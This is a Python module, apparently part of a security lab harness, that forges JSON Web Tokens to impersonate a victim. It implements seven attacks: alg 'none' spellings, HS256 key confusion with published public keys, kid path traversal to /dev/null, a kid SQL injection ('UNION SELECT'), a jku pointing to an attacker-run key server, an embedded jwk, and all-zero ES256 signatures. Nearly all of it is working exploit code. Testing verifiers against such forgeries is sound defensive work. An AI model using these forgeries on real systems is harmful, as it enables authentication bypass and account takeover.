"""Forged tokens: a header or a key that makes a careless verifier believe what nobody has signed (CWE-347).

Each attack begins with an honest token of Mallory's own, makes of it one about the victim, and presents that.
"""

import json
from collections.abc import Iterator
from functools import cache
from typing import Any

from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec, padding, rsa
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from labs.bench import serve

from .attempt import Attempt
from .compact import Sign, about, decode, encode, forged, mac, unsigned
from .token_target import TokenTarget

__all__ = ["SPELLINGS", "confusion", "embedded_jwk", "jku", "kid_sql", "kid_traversal", "none", "zeros"]

SPELLINGS = ("None", "NONE", "nOnE", "none ", "")
"""What a reader that bans the word `none` may still take for it."""


def none(target: TokenTarget, spellings: tuple[str, ...] = ("none",)) -> Attempt:
    """Say `"alg": "none"`, and sign nothing (RFC 7519 §6, RFC 8725 §2.1; T. McLean, 2015)."""
    sample = target.own_token()
    return target.present(forged(sample, target.victim, unsigned, alg=alg) for alg in spellings)


def confusion(target: TokenTarget) -> Attempt:
    """Say HS256, with a *public* key for a secret, in each form in which such keys lie about (CVE-2015-9235)."""
    sample = target.own_token()
    return target.present(
        forged(sample, target.victim, mac(secret), alg="HS256")
        for jwk in target.published()
        for secret in texts(jwk)
    )


def kid_traversal(target: TokenTarget) -> Attempt:
    """Name a file that everybody has as the key: an empty one is an empty secret (CWE-22)."""
    sample = target.own_token()
    kids = ("../" * 12 + "dev/null", "/dev/null", "....//" * 12 + "dev/null")
    return target.present(forged(sample, target.victim, mac(b""), alg="HS256", kid=kid) for kid in kids)


def kid_sql(target: TokenTarget) -> Attempt:
    """Let the look-up of the key find a secret that came with the token (CWE-89)."""
    sample, secret = target.own_token(), "mallory knows this one"
    kid = f"x' UNION SELECT '{secret}' --"
    return target.present([forged(sample, target.victim, mac(secret.encode()), alg="HS256", kid=kid)])


def jku(target: TokenTarget) -> Attempt:
    """Sign with a key of her own, and say where to fetch it: on a server of hers (RFC 8725 §3.10)."""
    sample = target.own_token()
    sign, jwk = own_key(about(sample)[0]["alg"])
    with serve(_publishing(jwk), name="Mallory's keys") as site:
        header = {"alg": jwk["alg"], "kid": jwk["kid"], "jku": f"{site.url}/jwks.json"}
        return target.present([forged(sample, target.victim, sign, **header)])


def embedded_jwk(target: TokenTarget) -> Attempt:
    """Sign with a key of her own, and put it into the header (RFC 7515 §4.1.3; CVE-2026-27962)."""
    sample = target.own_token()
    sign, jwk = own_key(about(sample)[0]["alg"])
    return target.present([forged(sample, target.victim, sign, alg=jwk["alg"], kid=jwk["kid"], jwk=jwk)])


def zeros(target: TokenTarget) -> Attempt:
    """Say ES256, with r = s = 0 for a signature: the equation holds for every key and text (CVE-2022-21449)."""
    sample = target.own_token()
    return target.present([forged(sample, target.victim, lambda data: bytes(64), alg="ES256")])


# ---- keys ----------------------------------------------------------------------------------------------------


def texts(jwk: dict[str, Any]) -> Iterator[bytes]:
    """The forms in which a public key lies about: PEM, as a file ends and as a setting does; its body; DER; JWK."""
    public, spki = public_key(jwk), PublicFormat.SubjectPublicKeyInfo
    pem = public.public_bytes(Encoding.PEM, spki)
    yield from (pem, pem.strip(), b"".join(pem.strip().split(b"\n")[1:-1]))
    yield from (public.public_bytes(Encoding.DER, spki), json.dumps(jwk).encode())


def public_key(jwk: dict[str, Any]) -> rsa.RSAPublicKey | ec.EllipticCurvePublicKey:
    """The key that a published JWK of RS256 or ES256 describes (RFC 7518 §6)."""
    if jwk["kty"] == "RSA":
        return rsa.RSAPublicNumbers(_number(jwk["e"]), _number(jwk["n"])).public_key()
    return ec.EllipticCurvePublicNumbers(_number(jwk["x"]), _number(jwk["y"]), ec.SECP256R1()).public_key()


@cache
def own_key(alg: str) -> tuple[Sign, dict[str, str]]:
    """A key of Mallory's: what signs with it, and its public half as a JWK. RS256 for RS256, else ES256."""
    about = {"kid": "mallory-1", "alg": "RS256" if alg == "RS256" else "ES256"}
    if alg == "RS256":
        key = rsa.generate_private_key(65537, 2048)
        numbers = key.public_key().public_numbers()
        jwk = {"kty": "RSA", "n": _uint(numbers.n, 256), "e": _uint(numbers.e, 3)}
        return lambda data: key.sign(data, padding.PKCS1v15(), hashes.SHA256()), jwk | about
    key = ec.generate_private_key(ec.SECP256R1())
    numbers = key.public_key().public_numbers()
    jwk = {"kty": "EC", "crv": "P-256", "x": _uint(numbers.x, 32), "y": _uint(numbers.y, 32)}
    return lambda data: _raw(key.sign(data, ec.ECDSA(hashes.SHA256()))), jwk | about


def _raw(der: bytes) -> bytes:
    r, s = decode_dss_signature(der)
    return r.to_bytes(32, "big") + s.to_bytes(32, "big")


def _number(text: str) -> int:
    return int.from_bytes(decode(text), "big")


def _uint(number: int, length: int) -> str:
    return encode(number.to_bytes(length, "big"))


def _publishing(jwk: dict[str, str]):
    """A site of Mallory's that publishes this key at every address."""
    body = json.dumps({"keys": [jwk]}).encode()

    def app(environ, start_response):
        start_response("200 OK", [("Content-Type", "application/json"), ("Content-Length", str(len(body)))])
        return [body]

    return app
